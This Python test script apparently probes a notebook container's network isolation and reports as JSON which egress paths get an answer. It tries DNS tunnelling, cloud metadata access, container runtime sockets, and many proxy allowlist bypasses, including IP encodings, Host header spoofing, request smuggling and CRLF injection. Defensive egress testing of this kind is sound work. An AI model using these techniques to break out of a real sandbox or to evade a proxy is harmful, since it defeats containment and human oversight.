"""Run in a notebook kernel: try every way out of the container, and print as JSON which ones got an answer.

`target` has the addresses (tests/attack/test_walls.py). A way is a function that raises an error if nothing answers.
"""

import http.client
import json
import os
import socket
import ssl
import struct
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlsplit

SECONDS = 4
NO_CHECK = ssl._create_unverified_context()


# --- without the proxy --------------------------------------------------------------------------------
def tcp(host: str, port: int) -> None:
    socket.create_connection((host, port), timeout=SECONDS).close()


def fast_open(host: str, port: int) -> None:
    """TCP with data in its first packet."""
    with socket.socket() as connection:
        connection.settimeout(SECONDS)
        connection.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
        connection.connect((host, port))
        connection.sendall(b"GET /probe HTTP/1.0\r\n\r\n")
        answered(connection.recv(100))


def udp(host: str, port: int) -> None:
    ask(host, port, "udp.probe.example", 1)


def ask(host: str, port: int, name: str, kind: int) -> None:
    """Send a question of DNS, with data in the name."""
    question = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    question += b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + struct.pack(
        "!BHH", 0, kind, 1
    )
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(SECONDS)
        connection.connect((host, port))
        connection.send(question)
        answer = connection.recv(500)
        if answer[3] & 15 or not struct.unpack("!H", answer[6:8])[0]:
            raise OSError(f"no answer for the name: code {answer[3] & 15}")


def ping(host: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as connection:
        connection.settimeout(SECONDS)
        connection.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0))
        answered(connection.recv(100))


def raw_ping(host: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as connection:
        connection.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0))


def lookup(name: str) -> None:
    socket.getaddrinfo(name, 80)


def unix(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(SECONDS)
        connection.connect(path)


def answered(data: bytes) -> None:
    if not data:
        raise OSError("no answer")


# --- through the proxy --------------------------------------------------------------------------------
def proxy() -> tuple[str, int]:
    parts = urlsplit(os.environ["HTTP_PROXY"])
    return parts.hostname, parts.port


def url(address: str) -> None:
    """What pandas, pip and others do: a request through the proxy in the environment."""
    with urllib.request.urlopen(address, timeout=SECONDS, context=NO_CHECK) as answer:
        answered(answer.read())


def sent(head: str) -> bytes:
    """Send this text to the proxy, and return its whole answer."""
    with socket.create_connection(proxy(), timeout=SECONDS) as connection:
        connection.sendall(head.encode("latin-1"))
        found = b""
        try:
            while data := connection.recv(65536):
                found += data
                if found.endswith(b"arrived"):
                    break
        except TimeoutError:
            pass
    return found


def arrives(head: str, count: int = 1) -> None:
    """Raise an error unless the answer contains this many answers of the other machine."""
    found = sent(head)
    if found.count(b"arrived") < count:
        raise OSError(found.partition(b"\r\n")[0].decode("latin-1") or "the connection ended")


def request(target: str, host: str) -> str:
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n"


def tunnel(target: str, name: str | None = None, text: bytes | None = None) -> None:
    """Open a tunnel with CONNECT, then speak TLS for the host `name`, or send `text` in it."""
    with socket.create_connection(proxy(), timeout=SECONDS) as connection:
        connection.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        head = connection.recv(1000)
        if b" 200 " not in head.partition(b"\r\n")[0]:
            raise OSError(head.partition(b"\r\n")[0].decode("latin-1"))
        if text is not None:
            connection.sendall(text)
            answered(connection.recv(100))
            return
        context = ssl._create_unverified_context()
        with context.wrap_socket(connection, server_hostname=name) as secure:
            secure.sendall(b"GET /probe HTTP/1.0\r\n\r\n")
            answered(secure.recv(100))


def ways(target: dict) -> dict:
    """Every way, by name."""
    listed, unlisted, six = target["listed"], target["unlisted"], target["six"]
    found = {
        **{f"TCP port {port}": lambda port=port: tcp(unlisted, port) for port in (22, 53, 80, 443, 8080)},
        "TCP with data in the first packet": lambda: fast_open(unlisted, 80),
        **{f"UDP port {port}": lambda port=port: udp(unlisted, port) for port in (53, 123, 443, 5000)},
        "ICMP echo": lambda: ping(unlisted),
        "ICMP echo, raw socket": lambda: raw_ping(unlisted),
        "TCP over IPv6": lambda: tcp(six, 80),
        "UDP over IPv6": lambda: udp(six, 53),
        "TCP, IPv4 address in IPv6": lambda: tcp(f"::ffff:{unlisted}", 80),
        "a cloud's metadata": lambda: tcp("169.254.169.254", 80),
        "DNS: an address": lambda: lookup("data-in-a-label.probe.example"),
        "DNS: a text": lambda: ask("127.0.0.11", 53, "data-in-a-label.text.probe.example", 16),
        "DNS: straight to a server": lambda: ask(unlisted, 53, "data-in-a-label.direct.example", 1),
        **{
            f"the machine, TCP, at {name}": lambda host=host: tcp(host, target["port"])
            for name, host in target["machine"].items()
        },
        **{
            f"the machine, UDP, at {name}": lambda host=host: udp(host, target["port"])
            for name, host in target["machine"].items()
        },
        "the name host.docker.internal": lambda: tcp("host.docker.internal", target["port"]),
        "the lab's server, by name": lambda: tcp("server", 8888),
        "the lab's server, by address": lambda: tcp(target["server"], 8888),
        "another lab's server": lambda: tcp(target["other server"], 8888),
        "another lab's notebooks": lambda: ping(target["other lab"]),
        **{f"the socket {path}": lambda path=path: unix(path) for path in SOCKETS},
    }
    if "HTTP_PROXY" in os.environ:
        found |= through_proxy(listed, unlisted, six)
    return found


SOCKETS = ("/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock")


def through_proxy(listed: str, unlisted: str, six: str) -> dict:
    """The ways that use the proxy of a project with `network: allowlist`."""
    number = struct.unpack("!I", socket.inet_aton(unlisted))[0]
    octal = ".".join(f"{int(part):04o}" for part in unlisted.split("."))
    chunked = "POST http://listed.example/ HTTP/1.1\r\nHost: listed.example\r\n"
    second = "GET /second HTTP/1.1\r\nHost: unlisted.example\r\n\r\n"
    return {
        "listed domain, http": lambda: url("http://listed.example/"),
        "listed domain, https": lambda: url("https://listed.example/"),
        "listed domain in capitals": lambda: url("https://LISTED.Example/"),
        "listed domain with a dot at its end": lambda: url("http://listed.example./"),
        "subdomain of a line with a dot": lambda: url("http://deep.down.wide.example/"),
        "unlisted domain, http": lambda: url("http://unlisted.example/"),
        "unlisted domain, https": lambda: url("https://unlisted.example/"),
        "unlisted domain with a dot at its end": lambda: url("http://unlisted.example./"),
        "subdomain of a line without a dot": lambda: url("http://sub.listed.example/"),
        "a name that ends like a listed one": lambda: url("http://notlisted.example/"),
        "a name that begins like a listed one": lambda: url("http://listed.example.unlisted.example/"),
        "a name with look-alike letters": lambda: arrives(request("http://list\u00e9d.example/", "listed.example")),
        "the same in IDN": lambda: url("http://xn--listd-fsa.example/"),
        "the IP address": lambda: url(f"http://{unlisted}/"),
        "the IP address of a listed domain": lambda: url(f"https://{listed}/"),
        "the IPv6 address": lambda: url(f"http://[{six}]/"),
        "the IPv4 address in IPv6": lambda: url(f"http://[::ffff:{unlisted}]/"),
        "the IP address as one number": lambda: url(f"http://{number}/"),
        "the IP address in hexadecimal": lambda: url(f"http://{number:#x}/"),
        "the IP address in octal": lambda: url(f"http://{octal}/"),
        "a name that leads to loopback": lambda: url("http://loopback.example/"),
        "a name that leads to a cloud's metadata": lambda: url("http://metadata.example/"),
        "a name that leads to the machine": lambda: url("http://gateway.example/"),
        "listed domain as a user name": lambda: arrives(request("http://listed.example@unlisted.example/", "x")),
        "listed domain after a backslash": lambda: arrives(request("http://unlisted.example\\@listed.example/", "x")),
        "listed domain in the fragment": lambda: arrives(request("http://unlisted.example#listed.example", "x")),
        "unlisted Host header": lambda: arrives(request("http://listed.example/front", "unlisted.example")),
        "redirect to an unlisted domain": lambda: url("http://listed.example/away"),
        "another port": lambda: url("http://listed.example:8080/"),
        "CONNECT to port 22": lambda: tunnel("listed.example:22", text=b"GET / HTTP/1.0\r\n\r\n"),
        "CONNECT to port 80": lambda: tunnel("listed.example:80", text=b"GET / HTTP/1.0\r\n\r\n"),
        "CONNECT to an unlisted domain": lambda: tunnel("unlisted.example:443", "unlisted.example"),
        "CONNECT to an IP address": lambda: tunnel(f"{unlisted}:443", "listed.example"),
        "TLS for another domain in a tunnel": lambda: tunnel("listed.example:443", "unlisted.example"),
        "TLS without a name in a tunnel": lambda: tunnel("listed.example:443"),
        "plain text in a tunnel": lambda: tunnel("listed.example:443", text=b"SSH-2.0-probe\r\n"),
        "https without a tunnel": lambda: arrives(request("https://listed.example/", "listed.example")),
        "ftp through the proxy": lambda: arrives(request("ftp://listed.example/", "listed.example")),
        "a second request behind the first": lambda: arrives(
            request("http://listed.example/one", "listed.example") + second, 2
        ),
        "a second request in a body": lambda: arrives(
            f"{chunked}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}", 2
        ),
        "a line end in the address": lambda: arrives(
            request("http://listed.example/%0d%0aHost:%20unlisted.example", "unlisted.example\r\nX: y")
        ),
        "the proxy's own port, through itself": lambda: url("http://egress:3128/"),
        "another port of the proxy": lambda: tcp("egress", 22),
    }


def tried(way) -> str:
    """An empty text if the way leads out, else why not."""
    try:
        way()
    except (OSError, http.client.HTTPException, ValueError) as error:
        return str(error) or type(error).__name__
    return ""


def main(target: dict) -> None:
    found = ways(target)
    with ThreadPoolExecutor(32) as pool:
        print(json.dumps(dict(zip(found, pool.map(tried, found.values()), strict=True))))


if "target" not in globals():
    target = json.loads(Path("/tmp/target.json").read_text())
main(target)
